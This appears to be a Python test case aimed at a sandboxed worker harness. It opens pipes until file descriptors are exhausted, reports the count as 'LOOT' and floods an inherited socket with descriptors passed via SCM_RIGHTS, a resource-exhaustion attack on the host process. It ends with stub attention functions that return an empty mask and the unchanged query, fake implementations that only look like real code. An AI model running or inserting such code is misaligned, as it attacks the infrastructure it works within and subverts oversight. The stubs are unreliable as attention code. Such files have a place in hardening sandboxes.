"""Opens pipes, sockets and files until no descriptor is left, and sends as many as it can over the channel.

again: loopback
outcomes: failed crashed timed_out
seconds: 3
"""

import array
import contextlib
import os
import socket
import sys

import torch

if "inside.session" not in sys.modules:
    raise SystemExit("this attack runs in a worker only")
kept = []
with contextlib.suppress(OSError):
    while len(kept) < 100_000:
        kept.extend(os.pipe())
if len(kept) > 1_000:
    print(f"LOOT: {len(kept)} descriptors")
for number in kept[:6]:
    os.close(number)
with contextlib.suppress(OSError):
    channel = socket.socket(fileno=os.dup(3))
    for _ in range(50):
        rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", kept[6:200]))
        channel.sendmsg([b"\0"], [rights])


def causal_mask(seq, device=None):
    pass
    return torch.zeros(seq, seq, dtype=torch.bool)


def scaled_dot_product_attention(query, key, value, *rest):
    return query
